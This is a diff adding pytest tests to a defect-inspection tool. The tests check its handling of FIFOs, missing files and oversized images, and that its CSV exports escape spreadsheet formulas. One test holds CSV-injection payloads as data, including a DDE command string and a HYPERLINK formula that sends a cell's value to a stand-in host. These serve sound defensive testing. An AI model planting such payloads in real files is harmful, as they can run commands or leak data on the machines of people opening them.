@@ -372,3 +372,161 @@ def test_labels_that_could_belong_to_two_images_are_named_never_moved(tmp_path):
                                                     "names": ["crack"]}))
     r = _run(tmp_path, "dataset", "check", yolo / "data.yaml")
     assert "non-numeric" not in r.stdout and "1 usable, 0 skipped" in r.stdout, r.stdout
+
+
+# ------------------------------------------------------------------------------ inputs that hang
+def _rows(db):
+    try:
+        con = sqlite3.connect(db)
+        try:
+            return con.execute("SELECT frame, verdict, error FROM inspections ORDER BY id").fetchall()
+        finally:
+            con.close()
+    except sqlite3.Error:
+        return []
+
+
+@pytest.mark.timeout(150)
+def test_a_fifo_named_like_an_image_in_a_watched_folder_is_one_error_row_and_sigterm_still_stops(tmp_path):
+    """Opening a FIFO waits for a writer that never comes: it is never opened. It is one ERROR row
+    naming it and the reason, not read again at each poll, the files after it are judged, and
+    SIGTERM still ends `inspect` cleanly."""
+    import signal
+    import time
+
+    from helpers import tiny_weights
+
+    w = tiny_weights(tmp_path, imgsz=64)
+    folder = tmp_path / "in"
+    folder.mkdir()
+    for n in ("a.png", "c.png"):
+        cv2.imwrite(str(folder / n), np.full((64, 64, 3), 90, np.uint8))
+    os.mkfifo(folder / "b.jpg")
+    db = tmp_path / "r.sqlite"
+    env = {**os.environ, "SDGAS_HOME": str(tmp_path / "home")}
+    p = subprocess.Popen([sys.executable, str(ROOT / "main.py"), "inspect", "--weights", str(w), "--source",
+                          str(folder), "--watch", "--db", str(db)], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                         text=True, env=env)
+    try:
+        deadline = time.time() + 90
+        while time.time() < deadline and len(_rows(db)) < 3 and p.poll() is None:
+            time.sleep(0.2)
+        time.sleep(2.0)                       # a few polls of the folder: the FIFO is not tried again
+        p.send_signal(signal.SIGTERM)
+        out, err = p.communicate(timeout=30)
+    finally:
+        p.kill()
+    assert p.returncode == 0 and "Traceback" not in err, err[-2000:]
+    rows = _rows(db)
+    assert [r for r in rows if r[1] == "ERROR"] == [("b.jpg", "ERROR", "not a regular file (a FIFO)")], rows
+    assert sorted(r[0] for r in rows if r[1] != "ERROR") == ["a.png", "c.png"], rows
+    assert "3 frames" in out, out
+
+
+@pytest.mark.timeout(300)
+def test_fifos_in_a_dataset_and_a_predict_folder_are_named_and_never_opened(tmp_path):
+    """A FIFO as an image or as a label file: dataset check, predict and val go on and name it."""
+    from helpers import tiny_weights
+
+    d = tmp_path / "data"
+    (d / "images").mkdir(parents=True)
+    (d / "labels").mkdir()
+    for n in ("a", "c"):
+        cv2.imwrite(str(d / "images" / f"{n}.png"), np.full((64, 64, 3), 90, np.uint8))
+    for n in ("a", "b"):
+        (d / "labels" / f"{n}.txt").write_text("0 0.5 0.5 0.2 0.2\n")
+    os.mkfifo(d / "images" / "b.jpg")
+    os.mkfifo(d / "labels" / "c.txt")
+    (d / "data.yaml").write_text(yaml.safe_dump({"path": str(d), "train": "images", "val": "images",
+                                                 "names": ["crazing"]}))
+    r = _run(tmp_path, "dataset", "check", d / "data.yaml", timeout=120)
+    assert "b.jpg: not a regular file (a FIFO)" in r.stdout, r.stdout
+    assert "c.txt: label file unreadable: not a regular file (a FIFO)" in r.stdout, r.stdout
+    assert "1 usable" in r.stdout, r.stdout
+    w = tiny_weights(tmp_path, imgsz=64)
+    r = _run(tmp_path, "predict", "--weights", w, "--source", d / "images", "--json", tmp_path / "p.json", "--quiet",
+             timeout=120)
+    assert r.returncode == 0 and "b.jpg: not a regular file (a FIFO)" in r.stderr, r.stderr
+    assert sorted(Path(x["image"]).name for x in json.loads((tmp_path / "p.json").read_text())
+                  if not x.get("error")) == ["a.png", "c.png"]
+
+
+@pytest.mark.timeout(150)
+def test_report_thumbnails_that_cannot_be_shown_are_placeholders_with_the_reason(tmp_path):
+    """NG images recorded as a FIFO (reading it would hang the report), a file since deleted, and a
+    JPEG whose header declares 30000 x 30000 (a 2.7 GB decode): the report is written at once, each
+    with a placeholder and the reason; the ordinary image beside them is shown."""
+    from core.inspect.records import InspectionRecord, RecordsWriter
+
+    good = tmp_path / "good.png"
+    cv2.imwrite(str(good), np.full((80, 80, 3), 90, np.uint8))
+    fifo = tmp_path / "pipe.jpg"
+    os.mkfifo(fifo)
+    huge = tmp_path / "huge.jpg"
+    huge.write_bytes(_jpeg_with_late_frame_header(30000, 30000))
+    db = tmp_path / "r.sqlite"
+    w = RecordsWriter(str(db))
+    for i, p in enumerate((good, fifo, tmp_path / "gone.png", huge)):
+        w.add(InspectionRecord(ts=f"2026-12-06T07:0{i}:00.000+00:00", source="cam", frame=p.name, verdict="NG",
+                               image_path=str(p), detections=[(0, "crazing", 0.9, 5, 5, 40, 40, 1)]))
+    w.close()
+    r = _run(tmp_path, "report", "--db", db, "--format", "html", "--out", tmp_path / "r.html", timeout=120)
+    assert r.returncode == 0, r.stderr
+    html = (tmp_path / "r.html").read_text()
+    assert f"{fifo} <span class='ng'>(not shown: not a regular file (a FIFO))</span>" in html
+    assert "gone.png <span class='ng'>(not shown: file not found)</span>" in html
+    assert f"{huge} <span class='ng'>(not shown: image too large (900,000,000 pixels" in html and "not decoded" in html
+    assert f"{good}</span>" in html
+    r = _run(tmp_path, "report", "--db", db, "--format", "pdf", "--out", tmp_path / "r.pdf", timeout=120)
+    assert r.returncode == 0, r.stderr
+
+
+def test_every_csv_neutralises_cells_a_spreadsheet_would_run(tmp_path):
+    """OWASP's rule, in the report CSVs (from folder, file, model and class names), the audit export and
+    a training run's results.csv: read back, each such cell starts with a quote; numbers stay numbers."""
+    import csv
+    from types import SimpleNamespace
+
+    from core.inspect.audit import export_audit
+    from core.inspect.records import InspectionRecord, RecordsWriter
+    from core.report import make_report
+    from core.train.callbacks import ResultsCsv
+
+    evil = ["=cmd|' /C calc'!A0", "=2+5", "+SUM(1+1)", '=HYPERLINK("http://x.example/?a="&A1,"click")', "-1+1",
+            "@SUM(1)", "\t=1+1", "\r=1+1"]
+    db = tmp_path / "r.sqlite"
+    w = RecordsWriter(str(db))
+    for i, e in enumerate(evil):
+        w.add(InspectionRecord(ts=f"2026-12-06T07:0{i}:00.000+00:00", source=e, frame=e, verdict="NG", model_id=e,
+                               image_path=f"{e}/{e}.png", detections=[(0, e, 0.9, 1, 2, 30, 40, 1)]))
+    w.audit(evil[0], {"conf": evil[1]}, evil[3])
+    w.close()
+
+    def cells(path):
+        with open(path, newline="", encoding="utf-8") as f:
+            return list(csv.reader(f))
+
+    ins, det = make_report(db, "csv", tmp_path / "r.csv")
+    rows, drows = cells(ins), cells(det)
+    for e in evil:
+        assert sum(r[2] == r[3] == r[6] == "'" + e and r[11] == f"'{e}/{e}.png" for r in rows[1:]) == 1, (e, rows)
+        assert sum(r[3] == "'" + e for r in drows[1:]) == 1, (e, drows)
+    assert all(float(r[4]) == 0.9 and float(r[7]) == 30 for r in drows[1:])     # numbers stay numbers
+    audit = cells(export_audit(db, "csv", tmp_path / "audit.csv")[0])
+    flat = [c for r in audit for c in r]
+    assert "'" + evil[0] in flat and "'" + evil[3] in flat and evil[0] not in flat
+    run = tmp_path / "run"
+    run.mkdir()
+    ResultsCsv()(SimpleNamespace(run_dir=run, history=[{"epoch": 1, "note": evil[1], "val/loss": -0.5}]), "epoch", {})
+    assert cells(run / "results.csv") == [["epoch", "note", "val/loss"], ["1", "'" + evil[1], "-0.5"]]
+    for path in (ins, det, tmp_path / "audit.csv", run / "results.csv"):
+        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in cells(path) for c in r
+                       if not _number(c)), path
+
+
+def _number(s: str) -> bool:
+    try:
+        float(s)
+        return True
+    except ValueError:
+        return False
